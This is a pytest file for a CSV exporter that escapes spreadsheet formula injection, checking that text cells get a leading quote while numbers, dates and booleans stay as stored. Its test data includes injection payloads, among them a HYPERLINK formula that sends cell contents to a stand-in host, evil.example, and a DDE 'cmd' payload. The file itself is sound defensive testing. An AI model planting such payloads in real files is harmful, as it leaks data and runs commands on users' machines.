"""Spreadsheet-safe csv cells: text that a spreadsheet would evaluate gets a leading ``'``,
numbers, dates and booleans stay as Postgres prints them, and the switch writes cells as stored.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import psycopg2.extensions
import pytest

from ingestion.database.connection import connect
from ingestion.exports.cells import FORMULA_TRIGGERS, neutralised, neutralised_cells
from ingestion.exports.formats import write_csv
from ingestion.settings import ConnectionSettings

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals
    "Ann=Lee",  # not at the start: left alone
    'O\'Brien, "Junior"\nsecond line',  # quotes, comma and newline: only csv quoting
    "",
]


def test_the_owasp_triggers_and_their_full_width_forms_get_a_quote() -> None:
    assert set("=+-@\t\r") <= set(FORMULA_TRIGGERS)
    assert [neutralised(value) for value in HOSTILE] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)",
        "'\t=1+1",
        "'\r=1+1",
        "'\uff1d1+1",
        "Ann=Lee",
        'O\'Brien, "Junior"\nsecond line',
        "",
    ]


@pytest.fixture
def cursor(warehouse: ConnectionSettings) -> Iterator[psycopg2.extensions.cursor]:
    connection = connect(warehouse)
    try:
        with connection.cursor() as opened:
            yield opened
    finally:
        connection.rollback()
        connection.close()


def hostile_query() -> str:
    """One row per hostile name, with a negative amount, a date and a flag beside it."""
    rows = ", ".join(
        f"({index}, $n${value}$n$, -12.50::numeric(12, 2), -3, date '2026-01-02', true)"
        for index, value in enumerate(HOSTILE)
    )
    return (
        "select position, name, amount_usd, units, delivery_date, is_open from (values "
        f"{rows}) as hostile (position, name, amount_usd, units, delivery_date, is_open)"
        " order by position desc"
    )


def exported(cursor: psycopg2.extensions.cursor, query: str, neutralise: bool) -> list[list[str]]:
    stream = io.BytesIO()
    write_csv(cursor, query, stream, neutralise_formulas=neutralise)
    return list(csv.reader(io.StringIO(stream.getvalue().decode("utf-8"), newline="")))


def test_text_cells_are_neutralised_and_typed_cells_are_not(
    cursor: psycopg2.extensions.cursor,
) -> None:
    query = hostile_query()
    safe = exported(cursor, query, neutralise=True)
    raw = exported(cursor, query, neutralise=False)

    assert (
        safe[0] == raw[0] == ["position", "name", "amount_usd", "units", "delivery_date", "is_open"]
    )
    # the same rows in the same (descending) order, one per value: quoting held
    assert [row[0] for row in safe[1:]] == [str(i) for i in reversed(range(len(HOSTILE)))]
    assert [row[1] for row in raw[1:]] == list(reversed(HOSTILE))
    assert [row[1] for row in safe[1:]] == [neutralised(v) for v in reversed(HOSTILE)]
    # numbers, dates and booleans as Postgres prints them: a negative number stays a number
    assert {tuple(row[2:]) for row in safe[1:]} == {("-12.50", "-3", "2026-01-02", "t")}
    assert [[row[0], *row[2:]] for row in safe] == [[row[0], *row[2:]] for row in raw]
    assert neutralised_cells(cursor, query) == 7


def test_an_empty_text_stays_distinct_from_null(cursor: psycopg2.extensions.cursor) -> None:
    query = "select name from (values (''), (null), ('=1')) as t (name)"
    stream = io.BytesIO()
    write_csv(cursor, query, stream)
    assert stream.getvalue().decode().splitlines() == ["name", '""', "", "'=1"]


def test_a_query_naming_a_column_twice_is_refused(cursor: psycopg2.extensions.cursor) -> None:
    with pytest.raises(ValueError, match="names a column twice"):
        write_csv(cursor, "select 'a' as name, 'b' as name", io.BytesIO())
